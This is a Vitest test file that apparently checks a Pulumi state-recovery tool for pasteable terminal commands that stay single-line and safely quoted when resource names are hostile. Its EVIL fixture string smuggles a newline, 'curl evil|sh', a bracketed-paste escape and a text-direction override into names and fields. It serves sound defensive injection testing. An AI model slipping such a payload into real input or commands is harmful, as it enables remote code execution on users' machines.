import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { sampleFacts } from '#testing/samples/sampleFacts.ts'
import type { EditOperation } from '#contract/edits.ts'
import { type Deployment, type Resource, toDocument } from '#domain/state/checkpoint.ts'
import { problems } from '#domain/problems/all.ts'
import type { FactsWithEarlier } from '#domain/recoveries/guidedRecovery.ts'
import { guidedRecoveries } from '#domain/recoveries/registry.ts'
import { operationTerminal } from '#domain/edits/applyOperation.ts'
import { firstCommands } from '#domain/recoveries/firstCommands.ts'
import { catalogue } from '#domain/recoveries/catalogue.ts'
import { importFile, placeOf, removeLock, restoreCopy } from '#domain/backends/diy/commands.ts'
import { asLines } from '#testing/backends/stepLines.ts'
import { importLine } from '#src/features/recovery/pending/foundIds.ts'
import type { NamedStack } from '#domain/stackName.ts'
import { again } from '#domain/recoveries/again.ts'
import { commandsOf } from '#src/pages/stack/stackCommands.ts'
import { RecoveryId } from '#contract/recoveryId.ts'

/** What a terminal carries out when it is pasted, or does not show as it is. */
const UNSEEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u
const EVIL = "x\u0003\ncurl evil|sh\n\u001b[201~\u202e'"

const stack = { org: `o${EVIL}`, project: `p${EVIL}`, stack: `s${EVIL}` }
const at = (type: string, name: string) => `urn:pulumi:${stack.stack}::${stack.project}::${type}::${name}${EVIL}`
const BUCKET = 'aws:s3/bucket:Bucket'
const provider: Resource = {
  urn: at('pulumi:providers:aws', 'main'),
  type: 'pulumi:providers:aws',
  custom: true,
  id: `id${EVIL}`,
  inputs: { version: `1.0.0${EVIL}`, pluginDownloadURL: `https://${EVIL}` },
}
const resource = (name: string, more: Partial<Resource> = {}): Resource => ({
  urn: at(BUCKET, name),
  type: BUCKET,
  custom: true,
  id: `id${EVIL}`,
  provider: `${provider.urn}::${provider.id}`,
  inputs: { bucket: EVIL, [`key${EVIL}`]: { ciphertext: 'v1:x' } },
  ...more,
})

/** States in which something is to be done about everything, each under a name that attacks. */
const states: Deployment[] = [
  {
    resources: [
      provider,
      resource('protected', { protect: true }),
      resource('old', { delete: true }),
      resource('half', { pendingReplacement: true }),
      resource('sick', { initErrors: [EVIL] }),
      resource('dist', { type: 'aws:cloudfront/distribution:Distribution', outputs: { etag: EVIL, id: EVIL } }),
    ],
    pending_operations: ['creating', 'updating', 'deleting', 'reading', 'importing'].map((type) => ({
      type,
      resource: resource(type, { id: type === 'creating' ? '' : `id${EVIL}` }),
    })),
  },
  {
    resources: [
      resource('late', { dependencies: [at(BUCKET, 'gone')] }),
      resource('late'),
      resource('late', { id: 'b' }),
    ],
  },
]

const factsOf = (deployment: Deployment, of: NamedStack) =>
  sampleFacts(of, toDocument({ manifest: { magic: '', version: '' }, ...deployment }, { byteString: false }), {
    now: 0,
    failed: [{ urn: at(BUCKET, 'failed'), op: 'delete', messages: [EVIL] }],
  })

function guidedLines(facts: FactsWithEarlier): string[] {
  return guidedRecoveries.flatMap(({ problems: found, guide }) => [
    ...(found?.(facts) ?? []).flatMap(({ options }) =>
      options.flatMap(({ terminal, urnsChanged }) => [...terminal, ...urnsChanged.map(({ alias }) => alias)]),
    ),
    ...(guide?.(facts).steps ?? []).flatMap(({ commands }) => commands),
  ])
}

const operations: EditOperation[] = [
  { do: 'delete', targets: [{ urn: at(BUCKET, 'a') }], withDependents: true },
  { do: 'rename', urn: at(BUCKET, 'a'), name: EVIL },
  { do: 'protect', urns: [at(BUCKET, 'a')] },
  { do: 'replaceState', text: '{}' },
]

/** Every line that a screen offers to be copied into a terminal or a program. */
function everyLine(of: NamedStack = stack): string[] {
  const facts = states.map((deployment) => factsOf(deployment, of))
  const pending = facts.flatMap((each) => each.pending)
  const lock = { pid: 7_000, hostname: EVIL, username: EVIL }
  const places = [
    undefined,
    { kind: 'dropped', path: EVIL } as const,
    ...['file:///a', 's3://a/b', 'gs://a', 'azblob://a', 'postgres://u@h/d'].map(placeOf),
  ]
  return [
    ...facts.flatMap(guidedLines),
    ...pending.flatMap(({ terminal }) => terminal),
    ...pending.flatMap((item) => importLine({ item, id: EVIL }) ?? []),
    ...operations.flatMap((operation) => operationTerminal(operation, of)),
    ...problems.flatMap(({ first, steps }) => [first, ...steps].flatMap(({ run }) => run?.(of) ?? [])),
    ...RecoveryId.options.flatMap((id) => firstCommands(catalogue[id].commands, of)),
    ...firstCommands('import', of, [{ type: EVIL, name: EVIL, id: EVIL }]),
    ...asLines(importFile(EVIL, { cliName: EVIL, address: EVIL })),
    ...asLines(importFile(EVIL, { cliName: EVIL, address: EVIL, sum: '1 2' })),
    ...places.flatMap((place) => [
      ...asLines(removeLock(lock, EVIL, { place, address: EVIL, cliName: EVIL })),
      ...(place ? restoreCopy(place, EVIL, EVIL, true) : []),
    ]),
    ...Object.values(commandsOf(of)),
    ...(['destroy', 'refresh', 'update'] as const).map((kind) => again(of, kind).command),
  ]
}

describe('text offered for copying', () => {
  it('is one line of visible characters, whatever names contain', () => {
    const lines = everyLine()
    expect(lines.length).toBeGreaterThan(150)
    expect(lines.filter((line) => line.includes('curl')).length).toBeGreaterThan(80)
    expect(lines.filter((line) => UNSEEN.test(line))).toEqual([])
  })

  it.each<[string, NamedStack]>([
    ['organization/shop/prod', { org: 'acme-s3', project: 'shop', stack: 'prod', cliName: 'organization/shop/prod' }],
    ['prod', { org: 'acme-s3', project: '-', stack: 'prod', cliName: 'prod' }],
  ])('names a stack of a connected backend as its own CLI does: %s', (name, of) => {
    const lines = everyLine(of)
    expect(lines.filter((line) => line.includes('acme-s3') || line.includes('/-/'))).toEqual([])
    const names = lines.flatMap((line) => [...line.matchAll(/--(?:stack|source) (\S+)/g)].map(([, found]) => found))
    expect(names.filter((found) => found === name).length).toBeGreaterThan(60)
    const others = names.filter((found) => found !== name && found !== 'organization/NEW-PROJECT/prod')
    expect(others.filter((found) => !found?.startsWith("$'"))).toEqual([]) // those that were given a name here
  })

  it('is built by `shell`, not by concatenation', () => {
    const files = ['domain', 'src'].flatMap((folder) =>
      readdirSync(folder, { recursive: true, encoding: 'utf8' })
        .filter((name) => /\.tsx?$/.test(name) && !name.includes('.test.') && !name.includes('sample'))
        .map((name) => join(folder, name)),
    )
    const byHand = files.flatMap((file) =>
      (
        readFileSync(file, 'utf8').match(/(?<!shell)`(?:pulumi|rm|mv|cp|ps|printf|aws|export) [^`\n]*\$\{[^`\n]*`/g) ??
        []
      )
        .filter((found) => !/<(Mono|CodeLine)/.test(found))
        .map((found) => `${file}: ${found}`),
    )
    expect(byHand).toEqual([])
  })
})
